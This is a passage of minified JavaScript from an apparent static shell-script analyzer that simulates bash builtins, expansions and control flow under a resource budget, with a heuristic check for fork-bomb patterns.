({text:o})=>/^(-x|-X|--exec|--exec-batch)$/.test(o));if(e===-1)return"\uFFFC";let s=R("\uFFFC"),r=t.args.slice(e+1),n=r.some(({text:o})=>o.includes("{"));return t.
runWords(n?r.map(o=>Rc(o,"{}",s)):[...r,s]),"\uFFFC"},"xargs gxargs":t=>{let{options:e,operands:s}=j(t.args,S.getopt.xargs),{scope:r,context:n}=t;Pc(n.input)&&/^0+$/.
test(W(e,"P","max-procs")[0]?.text??"")&&t.interpreter.reportForkBomb(t);let[o]=W(e,"a","arg-file"),a=(o?t.interpreter.files.written(o.text,r.folder)?.text:n.stdin?.
readRest())??"\uFFFC",[l]=W(e,"d","delimiter"),c=W(e,"I","replace")[0]?.text??(z(e,"i","replace")?"{}":void 0),d=a.includes("\0")?"\0":`
`,u=l?.text.replace("\\n",`
`)??(c===void 0?void 0:`
`),p=z(e,"0","null")?d:u,f=bh(a,p),m=s.length>0?s:[R("echo")],h=t.with({program:"xargs",context:rt(n,"",n.input)});return t.interpreter.budget.spend(f.length>>2),
c===void 0?h.runWords([...m,...ds(f,b_)]):ds(f,gh).map(({text:y,glob:x})=>{let $=R(y.trimStart(),x);return h.runWords(m.map(C=>Rc(C,c,$)))}).join("")},parallel:t=>{
let{options:e,operands:s}=j(t.args,S.getopt.parallel),r=[],n=[],o=W(e,"a","arg-file"),i=r;for(let u of s)/^:::{1,2}\+?$/.test(u.text)?i=u.text.startsWith("::::")?
o:n:i.push(u);i===r&&o.length===0&&o.push(R("-"));let a=z(e,"q","quote"),l=a?Br(r):oe(r).text,c=W(e,"I","replace").find(({text:u})=>u!=="")?.text??"{}";for(let{
text:u}of o){let p=u==="-"?t.context.stdin?.readRest():t.findWritten(u)?.text;n.push(...bh(p??"\uFFFC",`
`))}let d=l.includes(c)||/\{[^{}\s]*\}/.test(l);for(let u of ds(n,gh)){let p=a?u.text:Hr(u),f=l.replaceAll(c,()=>p).replaceAll(/\{(?:-?\d+|\/\/|[#%]|\d*[/.]+)\}/g,
()=>p),m=l===""?u.text:d?f:`${l} ${Hr(u)}`;t.consumeInput().runShell(m)}return"\uFFFC"}};var kh=require("node:path");var w_=1e3;function wh(t){let{scope:e}=t,[s]=j(t.args,{}).operands;t.record();let r=s?.text??"~",n=!/^[/~]/.test(r)&&!r.startsWith("\uFFFC")&&e.folder!==void 0,
o=e.value("OLDPWD");return e.set("OLDPWD",[R(e.folder??cr)]),r==="-"?e.folder=o:e.folder=n?kh.posix.normalize(`${e.folder}/${r}`):r,""}var vh={"cd pushd":wh,popd:t=>wh(
t.with({args:[R("\uFFFC")]})),"export declare typeset local readonly":t=>{let{scope:e,args:s,program:r}=t,n=s.flatMap(({text:i})=>/^-[A-Za-z]+$/.test(i)?[i.slice(
1)]:[]).join(""),o=r==="export"||n.includes("x");/[^agprxA]/.test(n)&&(e.isFollowed=!1);for(let{text:i,glob:a,exact:l}of s){let[,c,d,u]=/^([A-Za-z_]\w*)(\+?)=([\s\S]*)$/.
exec(i)??[];if(c===void 0){o?e.export(i):e.get(i)&&e.set(i,qn(e.get(i).words));continue}let{words:p=[],exported:f=!1}=e.get(c)??{},m=p.length>1&&oe(p).text===u,
h=/[lu]/.test(n)?"\uFFFC\uFFFB":(d?e.value(c):"")+u;if(n.includes("n"))e.addReference(c,u);else{let g=r!=="local"||e.isInFunction,y=l&&g&&!d?{text:h,glob:a,exact:l}:
R(h,a);e.set(c,m?p:[y],o||f)}(r==="readonly"||n.includes("r"))&&e.fix(c)}return t.record()},hash:t=>{let[e,s,r]=t.args;return e?.text==="-p"&&s&&r&&t.scope.alias(
r.text,s.text),t.record()},unset:t=>{let{options:e,operands:s}=j(t.args,{}),r=z(e,"f");for(let{text:n}of s){let o=t.scope.functions.get(n);o&&(r||t.scope.get(n)===
void 0)&&(o.certain=!1),r||t.scope.set(n,[])}return t.record()},set:t=>{let{args:e,scope:s}=t,r=e.findIndex(({text:o})=>o==="--"),n=r===-1?e.findIndex(({text:o})=>!/^[-+]/.
test(o)):r+1;return n!==-1&&!(r===-1&&/^[-+]\w*o$/.test(e[n-1]?.text??""))&&(s.arguments=[s.arguments[0]??R("bash"),...e.slice(n)]),t.record()},shift:({args:[t],
scope:e})=>{let[s,...r]=e.arguments;return e.arguments=[s,...r.slice(Number(t?.text??1)||1)],e.isFollowed=!1,""},read:t=>{let{args:e,scope:s,context:r}=t,{options:n,
operands:o}=j(e,{short:"adinNptu",permuted:!0}),i=o.filter(({text:m})=>/^[A-Za-z_]\w*$/.test(m)),[a]=W(n,"a"),l=r.stdin?r.stdin.readLine()??"":"\uFFFC",c=r.environment.
IFS?.text??s.value("IFS"),u=Array.from(l.trim(),m=>c.includes(m)?`
`:m).join("").replace(/^\n+/,"").split(/\n+/);r.redirects.length>0&&t.record(),a&&s.set(a.text,xe(u));let p=a?[]:i.length>0?i:[R("REPLY")],f=l==="\uFFFC"||l==="\
\uFFFC\uFFFB";return p.forEach(({text:m},h)=>{let g=u.slice(h).join(c[0]??" "),y=h<p.length-1?u[h]??"":p.length===1?l.trim():g;s.set(m,[R(f?l:y)])}),""},"mapfil\
e readarray":t=>{let{args:e,scope:s,context:r}=t;r.redirects.length>0&&t.record();let{options:n,operands:o}=j(e,{short:"CcdnOsu"}),[i]=W(n,"C");i&&t.runScript(`${i.
text} 0 line`);let l=(r.stdin?.readRest()??"\uFFFC").replace(/\n$/,"").split(`
`);return s.set(o[0]?.text??"MAPFILE",ds(xe(l),w_)),""},printf:t=>{let[e,s,...r]=t.args;return e?.text==="-v"&&s&&t.scope.set(s.text,[R(On(r.map(({text:n})=>n)))]),
t.record()},alias:t=>{for(let{text:e}of t.args){let[,s,r]=/^([^=\s]+)=([\s\S]*)$/.exec(e)??[];s!==void 0&&t.scope.alias(s,r)}return t.record()},eval:t=>{let e=oe(
t.args).text;return e.includes("\uFFFC")&&t.feedFromSubstitution(e).record(),e.trim()===""?"":t.runScript(e)},trap:t=>{let[e,...s]=t.args.filter(({text:n})=>n!==
"--");if(t.record(),!e||s.length===0||e.text.startsWith("-"))return"";let r=t.scope.copy();return t.with({context:{...t.context,isUncertain:!0}}).runScript(e.text,
r),r.ended=void 0,t.scope.join(r),""},command:t=>{let{options:e,operands:s}=j(t.args,{});return z(e,"v","V")?t.with({program:"type",args:s}).record():s.length>0?
t.runWords(s):t.record()}};Ct();var xh=/^[\w.,:@%+=/-]+$/,k_=200;function ws({parts:t,value:e},s){return t===void 0?xh.test(e)?e:void 0:_h(t.map(r=>$h(r,s,!1)))}function $h(t,e,s){if(t.type===
"SingleQuoted")return t.value;if(t.type==="DoubleQuoted")return _h(t.parts.map(n=>$h(n,e,!0)));let r=t.type==="Literal"?t.value:v_(t,e);return r!==void 0&&(s||xh.
test(r))?r:void 0}function v_(t,e){return t.type==="SimpleExpansion"?e.readExact(t.text.slice(1)):t.type!=="ParameterExpansion"||t.prefix||t.index?void 0:!t.operation||
t.text===`\${${t.parameter}:-}`?e.readExact(t.parameter):void 0}var _h=t=>t.some(e=>e===void 0||e.length>k_||e.includes("\uFFFC"))?void 0:t.join("");function zn(t,e){
switch(t.type){case"CompoundList":{let[s,...r]=t.commands;return s&&r.length===0&&!s.background?zn(s.command,e):void 0}case"Pipeline":return t.commands.length===
1&&t.prefixes.every(({type:r})=>r==="Negation")?Sh(zn(t.commands[0],e),t.prefixes.length):void 0;case"Command":return t.name&&t.prefix.length+t.redirects.length===
0?x_(t,e):void 0;case"TestCommand":return zn(t.expression,e);case"TestUnary":return Vi([t.operator,ws(t.operand,e)]);case"TestBinary":return Vi([ws(t.left,e),t.
operator,ws(t.right,e)]);default:return}}var Sh=(t,e)=>t===void 0?t:t!==(e%2===1);function x_({name:t,args:e},s){let r=[t,...e].flatMap(i=>i.type!=="Word"?[]:/^(?:\[|\]|!=?)$/.
test(i.text)?i.text:ws(i,s)??[]),[n="",...o]=r;if(!(o.length<e.length||s.functions.has(n)||s.aliases.has(n))){if(/^(?:true|false|:)$/.test(n))return n!=="false";
if(!(n==="["?o.pop()!=="]":n!=="test"))return o[0]==="!"&&o.length>1?Sh(Vi(o.slice(1)),1):o[1]==="=="&&o[0]===o[2]?void 0:Vi(o)}}function Vi(t){let[e,s,r]=t;return e===
void 0||t.includes(void 0)||t.length>3?void 0:s===void 0?t.length===1?e!=="":void 0:r===void 0?e==="-z"||e==="-n"?s===""==(e==="-z"):void 0:/^(?:==?|!=)$/.test(
s)?e===r==(s!=="!="):/^\d{1,9}$/.test(e)&&/^\d{1,9}$/.test(r)&&/^-(?:eq|ne)$/.test(s)?Number(e)===Number(r)==(s==="-eq"):void 0}function Ch({word:t,items:e},s){
let r=ws(t,s);if(!(r===void 0||e.some(({terminator:n})=>n?.includes("&")))){for(let{pattern:n,body:o}of e){let i=n.map(a=>a.text==="*"?r:ws(a,s));if(i.includes(
r))return[o];if(i.includes(void 0))return}return[]}}var{forms:qc}=S,$_=256*1024,Ic={characters:16*1024,commands:90},Eh=48,Ah=1e3,__=/(?<=[\w.\]}])\/\(([\w.-]{1,60})\)(?=[/\s]|$)/g;function Oc(t,e){if(t.length>us)
e.fail("too-long",`longer than ${us} characters`);else if(S_(t)>Eh)e.fail("too-deep",`more than ${Eh} brackets are open at once`);else if(t.split("<<").length>Ah)
e.fail("too-much",`more than ${Ah} here-documents`);else{e.spend(t.length>>10);try{let s=Tc(t),r=s.errors===void 0?s:Tc(t.replace(__,"/$1"));return Nc(r,e),r}catch(s){
e.fail("too-deep",`cannot be parsed: ${s.message}`)}}}function Hi(t,e){let s=Oc(`: ${t}`,e)?.commands[0]?.command,[r]=s?.type==="Command"?s.suffix:[];return r?.
type==="Word"?r:void 0}function Nc(t,e){let[s]=t.errors??[];s&&e.fail("unparsable",`cannot be parsed: ${s.message} at character ${s.pos}`)}function S_(t){let e=0,
s=0;for(let[r]of t.matchAll(/[[\](){}]/g))e="([{".includes(r)?e+1:Math.max(0,e-1),s=Math.max(s,e);return s}function*Th(t){let e=new Set,s=[],r=0;for(let n of C_(
t.slice(0,$_).replace(qc.here_document,"$1"))){let o=n.trim().replace(qc.long_line_prefix,"");o===""||o.length>Ic.characters||e.has(o)||(e.add(o),(s.length===Ic.
commands||r+o.length>Ic.characters)&&(yield s,s=[],r=0),s.push(o),r+=o.length+1)}s.length>0&&(yield s)}function*C_(t){let e=0;for(let{0:s,index:r}of t.matchAll(
qc.long_line_separator)){if(/^(?:'[^']*|"(?:\\[\s\S]|[^"\\])*)$/.test(s))return;/^[\\'"]/.test(s)||(yield t.slice(e,r),e=r+s.length)}yield t.slice(e)}var E_=32,Dc=/^-?(?:0|[1-9]\d{0,8})$/;function Bi(t,e){return zi(t,e),String(Wc(t,e))}function jc(t,e){if(t.trim()===""||Dc.test(t.trim()))return Number(t);if(!e.
interpreter.budget.spend(E_))return;let[s]=Hi(`$((${t}))`,e.interpreter.budget)?.parts??[];if(s?.type!=="ArithmeticExpansion"||!s.expression)return;let r=Wc(s.expression,
e);return typeof r=="number"?r:void 0}function zi(t,{interpreter:e,scope:s,context:r}){let n=[t];for(let o=n.pop();o&&e.budget.spend();o=n.pop())"script"in o?e.
runSubstitution(o.script,s,r):jn(o,i=>{n.push(i)})}function Wc(t,e){let s=n=>Wc(n,e),r=(n,o)=>{let i=n.type==="ArithmeticWord"?n.value:"";return/^[A-Za-z_]\w*$/.
test(i)&&e.scope.set(i,[R(String(o))]),o};switch(t.type){case"ArithmeticWord":return A_(t.value,e);case"ArithmeticGroup":return s(t.expression);case"ArithmeticU\
nary":{let n=s(t.operand);if(t.operator==="-")return Lc("-",0,n);if(t.operator!=="++"&&t.operator!=="--")return"\uFFFC\uFFFB";let o=r(t.operand,Lc(t.operator[0],
n,1));return t.prefix?o:n}case"ArithmeticBinary":{let n=s(t.right);if(t.operator==="=")return r(t.left,n);let[,o=t.operator]=/^([-+*/%&|^]|<<|>>)=$/.exec(t.operator)??
[],i=Lc(o,s(t.left),n);return o===t.operator?i:r(t.left,i)}case"ArithmeticCommandExpansion":return"\uFFFC";default:return"\uFFFC\uFFFB"}}function A_(t,{scope:e}){
if(Dc.test(t))return Number(t);let[,s,r]=/^(?:(?:\$\{?)?([A-Za-z_]\w*)\}?|\$\{?(\d+)\}?)$/.exec(t)??[];if(s===void 0&&r===void 0)return"\uFFFC\uFFFB";let n=s===
void 0?e.arguments[Number(r)]?.text??"":e.value(s);return n.includes("\uFFFC")?Le(n)?"\uFFFC\uFFFB":"\uFFFC":n.trim()===""||Dc.test(n.trim())?Number(n):"\uFFFC\uFFFB"}
function Lc(t,e,s){if(typeof e!="number")return e;if(typeof s!="number")return s;let r=Object.hasOwn(Ph,t)?Ph[t](e,s):Number.NaN;return Number.isSafeInteger(r)?
r:"\uFFFC\uFFFB"}var Ph={"+":(t,e)=>t+e,"-":(t,e)=>t-e,"*":(t,e)=>t*e,"/":(t,e)=>Math.trunc(t/e),"%":(t,e)=>t%e,"<<":(t,e)=>e<0?Number.NaN:t*2**e,">>":(t,e)=>e<
0?Number.NaN:Math.floor(t/2**e),"&":(t,e)=>Number(BigInt(t)&BigInt(e)),"|":(t,e)=>Number(BigInt(t)|BigInt(e)),"^":(t,e)=>Number(BigInt(t)^BigInt(e))};Ct();var{forms:Rh}=S,Ih=512,T_=2e5,qh=t=>/^\{-?\d{1,9}\.\.-?\d{1,9}(?:\.\.-?\d{1,6})?\}$/.test(t);function Mc(t){let e=[""];for(let s=0;s<t.length;){let r=t[s]==="{"?
P_(t,s):void 0,n=r?.end??Nh(t,s),o=r?r.alternatives:[t.slice(s,n)],i=e.length*(o?.length??0);if(o===void 0||i>Ih||i*t.length>T_)return;e=e.flatMap(a=>o.map(l=>a+
l)),s=n}return e}function P_(t,e){let s=[],r=e+1,n=0;for(let o=r;o<t.length;o=Nh(t,o)){let i=t[o];if(i==="{"?n+=1:i==="}"&&n>0?n-=1:(i===","&&n===0||i==="}")&&(s.
push(t.slice(r,o)),r=o+1),i!=="}"||r!==o+1)continue;if(s.length===1&&!Oh.test(s[0]))return;let a=s.length===1?[R_(s[0])]:s.map(Mc);return{alternatives:a.includes(
void 0)?void 0:a.flat(),end:r}}}var Oh=/^(?:(-?\d{1,9})\.\.(-?\d{1,9})|([A-Za-z])\.\.([A-Za-z]))(?:\.\.-?(\d{1,6}))?$/;function R_(t){let[,e="",s="",r,n,o="1"]=Oh.
exec(t),i=/^-?0\d/.test(e)||/^-?0\d/.test(s)?Math.max(e.length,s.length):0,[a,l]=r===void 0?[Number(e),Number(s)]:[r.charCodeAt(0),n.charCodeAt(0)],c=Math.max(1,
Number(o)),d=Math.floor(Math.abs(l-a)/c)+1;if(!(d>Ih))return Array.from({length:d},(u,p)=>{let f=a+(a<=l?c:-c)*p,m=f<0?`-${String(-f).padStart(i-1,"0")}`:String(
f).padStart(i,"0");return r===void 0?m:String.fromCharCode(f)})}function Nh(t,e){return Rh.brace_literal.lastIndex=e,e+Rh.brace_literal.exec(t)[0].length}var{forms:q_,uniqueMark:O_}=S;function Lh(t,e,s){let r=t.type==="ParameterExpansion"?t:void 0,n=r?.parameter??t.text.slice(1),o=r?.operation;if(r?.prefix==="!"&&
o?.type==="Names")return{words:[R("\uFFFC\uFFFB")],list:!1};let i=r?.prefix==="!"?e.scope.value(n):n,a={...e,name:i,expand:u=>s(u,e)},l=r?.index&&a.expand(r.index).
text,c=n==="@"||l==="@",d=N_(i,l,e);if(r?.prefix==="#"){let u=c||n==="*"||l==="*"?d.length:d[0]?.text.length,p=d.every(Ie)&&!Dh(a);return{words:[R(p?String(u??0):
"\uFFFC")],list:!1}}return o===void 0?{words:d,list:c}:o.type==="Default"?{words:L_(d,o,a),list:c}:o.type==="Slice"&&c?{words:[R("\uFFFC\uFFFB")],list:c}:{words:d.
map(({text:u})=>R(D_(u,o,a))),list:c}}function N_(t,e,{scope:s}){if(t==="@"||t==="*")return s.arguments.slice(1);if(t==="#")return[R(String(s.arguments.length-1))];
if(/^\d+$/.test(t))return s.arguments.slice(Number(t),Number(t)+1);let r=s.get(t);if(e===void 0)return r?r.words.slice(0,1):[R(s.value(t))];if(e==="@"||e==="*")
return r?.words??[R("\uFFFC")];let n=Number(e);if(!r||!Number.isInteger(n))return[R("\uFFFC")];let o=r.words.at(n);return o?[o]:[]}function L_(t,{operator:e,operand:s},{
name:r,scope:n,expand:o}){let i=t.length>0&&(t[0].text!==""||!e.includes(":")),a=n.get(r)!==void 0||t.every(Ie);if(e.endsWith("+"))return i?[o(s)]:[];let l=o(s);
if(e.endsWith("?")){if(e!==":?"||t.length!==1||t[0].text!=="\uFFFC")return t;let u=[R("\uFFFC\u2026")];return/^\w+$/.test(r)&&n.set(r,u),u}if(a?i:l.text==="")return t;
let c=q_.new_folder.test(l.text)?"\uFFFC":l.text.replaceAll(O_,"\uFFFC"),d=[a?l:R(c,l.glob)];return e.endsWith("=")&&/^\w+$/.test(r)&&n.set(r,d),d}var Dh=({name:t,
scope:e})=>/^(?:HOME|PWD|PATH|OLDPWD|SHELL|BASH)$/.test(t)&&!e.get(t);function D_(t,e,s){let{expand:r}=s,n=Dh(s),o=!n&&!t.includes("\uFFFC"),i=n?"\uFFFC\uFFFB":
Nt(t);switch(e.type){case"Remove":{let a=r(e.operand).text;return n?e.operator==="##"&&a==="*/"?"\uFFFC":"\uFFFC\uFFFB":o?M_(t,e.operator,a,s):i}case"Replace":{
let a=r(e.pattern).text,l=r(e.replacement).text;if(!o||a==="")return o?t:i;let{operator:c}=e,d=jh(t,a,!1,s);if(d===void 0)return Te(a);let u=c==="/#"?`^(?:${d})`:
c==="/%"?`(?:${d})$`:d;return t.replace(new RegExp(u,c==="//"?"g":""),()=>l)}case"Slice":{let a=r(e.offset).text,l=e.length&&r(e.length).text,c=jc(a,s),d=l===void 0?
void 0:jc(l,s);if(n&&c===0&&d===1)return"/";if(!o)return i;if(c===void 0||l!==void 0&&d===void 0)return Te(a+(l??""));let u=c<0?t.length+c:c;return u<0?"":t.slice(
u,d===void 0||d<0?d:u+d)}case"CaseModification":return o?e.operand?"\uFFFC\uFFFB":W_(t,e.operator):i;default:return"\uFFFC\uFFFB"}}var j_=100,W_=(t,e)=>{let s=r=>e[0]===
"^"?r.toUpperCase():r.toLowerCase();return e.length===2?s(t):s(t.slice(0,1))+t.slice(1)};function jh(t,e,s,r){return r.interpreter.budget.spend(j_),t.length>128||
e.includes("\uFFFC")?void 0:Ii(e,s)}function M_(t,e,s,r){let n=jh(t,s,e.length===1,r);if(n===void 0)return Te(s);if(e[0]==="#")return t.replace(new RegExp(`^(?:${n}\
)`),"");let o=new RegExp(`^(?:${n})$`),i=Array.from({length:t.length+1},(l,c)=>c),a=l=>o.test(t.slice(l));return t.slice(0,e==="%"?i.findLast(a):i.find(a))}var F_=20;function Gn(t,e){let s=U_(t,e);return t.text.startsWith("~")?s.map(r=>Wh(r,e)):s}function Wh(t,{scope:e}){let s=e.value("HOME");return S.forms.temporary_file.
test(s)?{...t,text:t.text.replace(/^~(?=\/|$)/,()=>s)}:t}function U_(t,e){if(!e.interpreter.budget.spend(1+(t.text.length>>6)))return[R("\uFFFC\uFFFB")];if(t.parts===
void 0)return[{...R(t.value),...t.text.startsWith("\uFFFC")&&{bare:!0}}];if(!t.parts.some(({type:r})=>r==="BraceExpansion"))return Fc(t.parts,e,!1);let s=Mc(t.text);
return e.interpreter.budget.spend(2*(s?.length??0)+(t.text.length>>2)),s===void 0?qh(t.text)?[R("1"),R("\uFFFC")]:[R("\uFFFC\uFFFB",!0)]:s.flatMap(r=>{if(/^[\w@%+=:,./-]*$/.
test(r))return[R(r)];let{budget:n}=e.interpreter,i=(n.spend(4)?Hi(r,n)?.parts:void 0)?.filter(({type:a})=>a!=="BraceExpansion");return i?Fc(i,e,!1):[R(r)]})}function Os(t,e){
let s=t.parts===void 0?R(t.value):Bc(t.parts,e);return t.text.startsWith("~")?Wh(s,e):s}function Vc({value:t,index:e},s){if(e&&Os(e,s),t.type==="ArrayValue")return t.
elements.flatMap(n=>Gn(n,s));let r=s.context.isUncertain?void 0:ws(t,s.scope);return[r===void 0?Os(t,s):{text:r,glob:!1,exact:!0}]}function Hc(t,e){let s=e.scope.
isFollowed?ws(t,e.scope):void 0;return s===void 0?Gn(t,e):[{text:s,glob:!1,exact:!0}]}function Mh(t,e){if(t.type==="Word")return Gn(t,e);let s=Vc(t,e);t.value.type===
"ArrayValue"&&e.scope.set(t.name,s);let{text:r,glob:n}=oe(s),o=t.value.type==="Word"?s[0]?.exact:void 0;return[{text:`${t.name}${t.append?"+":""}=${r}`,glob:n,..._e(
{exact:o})}]}function Bc(t,e){let{text:s,glob:r}=oe(Fc(t,e,!0));return R(s,r||t.some(({type:n})=>n==="Glob"||n==="ExtendedGlob"))}function Fc(t,e,s){let r=new Uc;
for(let n of t)Fh(n,e,r,s);return r.close(),r.done}var Uc=class{done=[];text;glob=!1;bare;add(e,s=!1){this.text=Vt(this.text??"",e),s&&(this.glob=!0)}split(e,s){
let r=0;for(let n=0;n<=e.length;n+=1){if(n<e.length&&!s.includes(e[n]))continue;let o=e.slice(r,n);o!==""&&this.add(o,/[*?[]/.test(o)),o.includes("\uFFFC")&&(this.
bare=!0),n<e.length&&this.close(),r=n+1}}close(){let{text:e,glob:s,bare:r}=this;e!==void 0&&this.done.push({text:e,glob:s,..._e({bare:r})}),this.text=void 0,this.
glob=!1,this.bare=void 0}};function Fh(t,e,s,r){if(!e.interpreter.budget.spend()){s.add("\uFFFC");return}let n=(o,i)=>{e.interpreter.budget.spend(o.reduce((l,{text:c})=>l+
c.length,0)>>6),(r&&!i?[oe(o)]:o).forEach(({text:l,glob:c},d)=>{d>0&&s.close(),r?s.add(l,c):s.split(l,e.scope.value("IFS"))})};switch(t.type){case"Literal":case"\
SingleQuoted":case"AnsiCQuoted":s.add(t.value);break;case"Glob":case"ExtendedGlob":case"BraceExpansion":s.add(t.text,t.type!=="BraceExpansion");break;case"Doubl\
eQuoted":case"LocaleString":(t.parts.length!==1||!/^\$(@|\{@|\{\w+\[@\])/.test(t.parts[0].text))&&s.add("");for(let o of t.parts)Fh(o,e,s,!0);break;case"SimpleE\
xpansion":case"ParameterExpansion":{let{words:o,list:i}=Lh(t,e,Os);n(o,i);break}case"CommandExpansion":{let{interpreter:o,scope:i,context:a}=e,l=o.invocations.length,
c=o.runSubstitution(t.script,i,{...a,captured:!0}),d=c.includes("\uFFFC")?o.invocations.slice(l):[];o.substituted=[...o.substituted,...d].slice(-F_),n([R(c.replace(
/\n+$/,""))],!1);break}case"ArithmeticExpansion":s.add(t.expression?Bi(t.expression,e):"\uFFFC\uFFFB");break;case"ProcessSubstitution":s.add(V_(t,e));break;default:}}
function V_(t,e){let{interpreter:s,scope:r,context:n}=e,o=`/dev/fd/${63+s.sources.size}`,i=s.invocations.length,a={...n,captured:!0,isConcurrent:!0,isPiped:!1},
l=t.operator===">"?rt(a,"\uFFFC\uFFFB",{kind:"pipe",from:[]}):a,c=s.runSubstitution(t.script,r,l);return t.operator!==">"&&s.sources.set(o,{text:c,from:s.invocations.
slice(i)}),o}var{forms:Gi}=S,zc=32,Ki=class extends vi{list(e,s,r,n=!1){let o="",{needs:i}=r,a=!1;for(let{command:l,background:c}of e){if(!this.budget.spend())break;let d=this.
invocations.length,u={...r,..._e({needs:i})},p=c?this.node(l,s.copy(),{...u,isConcurrent:!0,isUncertain:!0}):this.node(l,s,u);if(o=Vt(o,p),s.ended)break;if(!n)continue;
a&&!c&&(i=[...i??[],...this.findSuccess(l,d)]);let f=this.invocations.slice(d).filter(({program:h})=>Gi.changing_builtin.test(h)),m=l.type==="Command"&&f.length===
1&&l.name?.value==="set";f.length>0&&(a=m&&Gi.error_exit.test(le(f[0])))}return o}node(e,s,r){return this.budget.descend(()=>{switch(e.type){case"Command":return s.
hasAlternatives?this.alternatives(e,s,r):this.command(e,s,r);case"Pipeline":return this.pipeline(e,s,r);case"AndOr":return this.andOr(e,s,r);case"CompoundList":
return this.list(e.commands,s,r);case"Subshell":return this.list(e.body.commands,s.copy(),r);case"BraceGroup":return this.list(e.body.commands,s,r);case"If":return this.
inIf(e,s,r);case"Case":return this.inCase(e,s,r);case"For":case"Select":return this.forEach(e,s,r);case"While":case"ArithmeticFor":if(ph(e,r.input)&&this.reportForkBomb(
{scope:s,context:r}),e.type==="While")return this.repeat(e,s,r);for(let n of[e.initialize,e.test,e.update])n&&zi(n,this.site(s,r));return this.maybe(s,n=>this.list(
e.body.commands,n,{...r,isUncertain:!0}));case"ArithmeticCommand":return e.expression&&Bi(e.expression,this.site(s,r)),"";case"TestCommand":return e.expression&&
zi(e.expression,this.site(s,r)),"";case"Redirected":return this.redirected(e,s,r);case"Function":return s.define(e.name.value,e.body),"";case"Coproc":return this.
node(e.body,s.copy(),{...r,isConcurrent:!0});default:return e}},"\uFFFC")}pipeline({commands:e,prefixes:s},r,n){let i=s.some(({type:c})=>c==="Time")?{...n,wrappers:[
...n.wrappers,"time"]}:n;if(e.length===1)return this.node(e[0],r,i);let a=this.invocations.length,l="";for(let[c,d]of e.entries()){let u=this.invocations.slice(
a);if(!this.budget.spend(1+(u.length>>4)))break;let p=c===0?i:rt(i,l,{kind:"pipe",from:u}),f=r.copy();l=this.node(d,f,{...p,isConcurrent:!0,isPiped:c<e.length-1}),
r.isFollowed&&!r.same(f)&&(r.isFollowed=!1)}return l}andOr({commands:e,operators:s},r,n){let o="",i=[r.copy()],{needs:a}=n,l,{isUncertain:c}=n;for(let[d,u]of e.
entries()){if(!this.budget.spend()||r.ended)break;if(l===(s[d-1]==="||")&&d>0)continue;l=d===0||l!==void 0?this.decide(u,r,n):void 0;let p=this.invocations.length,
f=this.node(u,r,{...n,..._e({needs:a,isUncertain:c})});s[d]==="||"?a=n.needs:s[d-1]!=="||"&&(a=[...a??[],...this.findSuccess(u,p)]),s[d-1]!=="||"?o+=f:o=o===""||
o===f?f:"\uFFFC";let m=l!==void 0||s[d]==="&&"&&B_(u);d<e.length-1&&!m&&i.push(r.copy()),l===void 0&&(c=!0)}for(let d of i.slice(1))r.join(d);return o}findSuccess(e,s){
let[r,...n]=this.invocations.slice(s),o=e.type==="Command"?e.name?.value:void 0,i=o===r?.path||o==="sudo"&&r?.wrappers.at(-1)==="sudo";return r&&i&&n.length===0?
[r]:[]}decide(e,s,r){return s.isFollowed&&!r.isUncertain?zn(e,s):void 0}inIf(e,s,r){let n=[e,...e.elif],o=n.findIndex(({clause:l})=>this.decide(l,s,r)!==!1),i=n.
slice(o===-1?n.length:o),a=i[0]&&this.decide(i[0].clause,s,r)?i[0].then:e.else;if(i.length===0||a!==e.else)return a?this.list(a.commands,s,r):"";for(let{clause:l}of i)
this.list(l.commands,s,r);return this.choice(i.map(({then:l})=>l).concat(e.else??[]),s,r)}choice(e,s,r){let n=e.map(()=>s.copy()),o={...r,isUncertain:!0},i=e.map(
({commands:a},l)=>this.list(a,n[l],o));for(let a of n)s.join(a);return i.every(a=>a==="")?"":"\uFFFC"}inCase(e,s,r){let n=s.isFollowed&&!r.isUncertain?Ch(e,s):void 0;
if(n)return n.map(({commands:a})=>this.list(a,s,r)).join("");let o=this.site(s,r);Os(e.word,o);for(let{pattern:a}of e.items)for(let l of a)Os(l,o);let i=e.items.
map(({body:a})=>a);return this.choice(i,s,r)}forEach(e,s,r){let n=e.wordlist,i=[s,...s.hasAlternatives&&n?s.listAlternatives(n):[]].flatMap(l=>n?n.flatMap(c=>Hc(
c,this.site(l,r))):l.arguments.slice(1)),a=e.type==="Select"?{...r,isUncertain:!0}:r;return this.maybe(s,l=>{let c="";for(let d of ds(i,zc)){if(!this.budget.spend()||
l.ended)break;l.set(e.name.value,[d]),c=Vt(c,this.list(e.body.commands,l,a))}return i.length>zc?Nt(c):c})}repeat(e,s,r){let n=s.copy(),o=r.stdin?.remaining.replace(
/\n$/,"").split(`
`)??[],i=Math.min(zc,Math.max(2,o.length)),a="",l=c=>{let d={...c,isUncertain:!0};this.list(e.clause.commands,s,d),a=Vt(a,this.list(e.body.commands,s,d))};for(let c=0;c<
i&&this.budget.spend()&&(l(r),!(r.stdin?.remaining===""||s.same(n)));c+=1);if(r.stdin?.remaining&&!s.same(n)){let c=r.stdin.readRest().split(`
`).filter(Boolean),[d]=ds(xe(c),0);d&&l(rt(r,d.text,r.input))}return s.join(n),a===""?"":Nt(a)}maybe(e,s){let r=e.copy(),n=s(e);return e.join(r),n}redirected({command:e,
redirects:s},r,n){let o=this.site(r,n),i=this.redirect(s,o),a=this.invocations.length,l=this.node(e,r,Uh(i,n)?{...i,isUncertain:!0}:i);return r.ended=void 0,this.
invocations.length===a&&s.length>0&&this.run([R(":")],r,i,!1),this.settle(l,i,n,r)}alternatives(e,s,r){let n=e.redirects.map(l=>"target"in l?l.target:void 0),o=s.
listAlternatives([e.name,...e.args,...e.prefix,...n]),i=r.stdin?.remaining,a=this.command(e,s,r);for(let l of o){if(!this.budget.spend(4))break;if(this.command(
e,l,i===void 0?r:rt(r,i,r.input)),!e.name)for(let{name:c}of e.prefix.filter(d=>d.type==="Assignment"))s.mayBe(c,l.get(c)?.words??[])}return a}command(e,s,r){let n=e.
redirects.length===0||e.name!==void 0,o=this.site(s,n?r:{...r,isUncertain:!0}),i=e.prefix.filter($=>$.type==="Assignment");H_(e)&&this.budget.fail("too-much","a\
 substitution behind an assignment is not followed");let a=this.invocations.length,l=i.map($=>({assignment:$,words:Vc($,o)})),c=e.name?Gn(e.name,o):[],d=s.functions.
has(c[0]?.text??""),u=$=>d&&$.type==="Word"?Hc($,o):Mh($,o),p=[...c,...e.args.flatMap(u)],f=this.redirect(e.redirects,o);if(p.length===0){for(let{assignment:_,words:T}of l)
